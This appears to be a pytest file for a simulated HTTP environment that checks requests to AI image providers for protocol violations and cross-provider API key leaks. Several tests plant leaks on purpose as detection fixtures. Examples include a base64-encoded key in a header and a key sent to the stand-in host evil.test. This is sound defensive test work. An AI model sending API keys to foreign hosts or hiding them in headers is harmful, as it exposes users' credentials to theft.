"""The judge sees what is wrong with a request, and who leaks whose key."""

from __future__ import annotations

import base64

import httpx
import pytest

RUN = "https://fal.run/fal-ai/flux/dev"
PROMPT = {"prompt": "a fox"}


def call(world, **headers):
    key = {"authorization": f"Key {world.secrets['fal'][0]}"}
    return httpx.post(RUN, json=PROMPT, headers={**key, **headers})


def test_a_good_request_is_good(world):
    assert call(world, **{"x-fal-no-retry": "1"}).status_code == 200
    assert world.violations == []
    assert world.leaks() == []


@pytest.mark.parametrize(
    "header",
    [
        "prefer",
        "cancel-after",
        "x-goog-api-key",
        "x-stainless-lang",
        "openai-organization",
        "x-api-key",
        "cookie",
        "idempotency-key",
    ],
)
def test_foreign_header(world, header):
    call(world, **{header: "x"})
    assert f"header {header} belongs to another provider" in world.violations[0]


@pytest.mark.parametrize("spell", [str, lambda k: base64.b64encode(k.encode()).decode()])
def test_planted_leak_in_a_header(world, spell):
    call(world, **{"x-trace": spell(world.secrets["replicate"][1])})
    (leak,) = world.leaks()
    assert (leak.owner, leak.host, leak.where) == ("replicate", "fal.run", "head")
    assert "replicate's key" in world.fal.violations[0]
    assert str(leak) == "replicate's key in the head of POST fal.run/fal-ai/flux/dev"


def test_planted_leak_in_a_body(world):
    key = {"authorization": f"Key {world.secrets['fal'][0]}"}
    httpx.post(RUN, json={"prompt": world.secrets["replicate"][0]}, headers=key)
    assert [leak.where for leak in world.leaks()] == ["body"]


def test_planted_leak_to_an_asset_host(world):
    stolen = {"authorization": f"Bearer {world.secrets['replicate'][0]}"}
    httpx.get("https://v3.fal.media/files/sim/x/y.png", headers=stolen)
    (leak,) = world.leaks()
    assert (leak.owner, leak.host) == ("replicate", "v3.fal.media")


def test_own_key_to_an_own_asset_host_is_no_leak(world):
    own = {"authorization": f"Bearer {world.secrets['replicate'][0]}"}
    httpx.get("https://replicate.delivery/x/y.png", headers=own)
    assert world.leaks() == []


def test_any_key_to_a_stranger_is_a_leak(world):
    world.host("evil.test")
    call_headers = {"authorization": f"Key {world.secrets['fal'][0]}"}
    httpx.get("https://evil.test/", headers=call_headers)
    assert [leak.owner for leak in world.leaks()] == ["fal"]


def test_own_key_outside_the_headers(world):
    key = world.secrets["fal"][0]
    httpx.get(f"https://queue.fal.run/x?key={key}", headers={"authorization": f"Key {key}"})
    assert any("outside the headers" in violation for violation in world.violations)


def test_missing_user_agent(world):
    key = {"authorization": f"Key {world.secrets['fal'][0]}"}
    with httpx.Client(headers=key) as client:
        del client.headers["user-agent"]
        client.post(RUN, json=PROMPT)
    assert any("no user agent" in violation for violation in world.violations)


def test_undeclared_json(world):
    key = {"authorization": f"Key {world.secrets['fal'][0]}"}
    httpx.post(RUN, content=b'{"prompt":"x"}', headers=key)
    assert any("not declared as JSON" in violation for violation in world.violations)


def test_requests_are_in_order_of_arrival(world):
    call(world)
    httpx.get("https://replicate.delivery/x/y.png")
    call(world)
    assert [e.provider for e in world.requests] == ["fal", "replicate", "fal"]
    world.fal.forget()
    assert (world.fal.requests, world.fal.billed) == ([], 0)
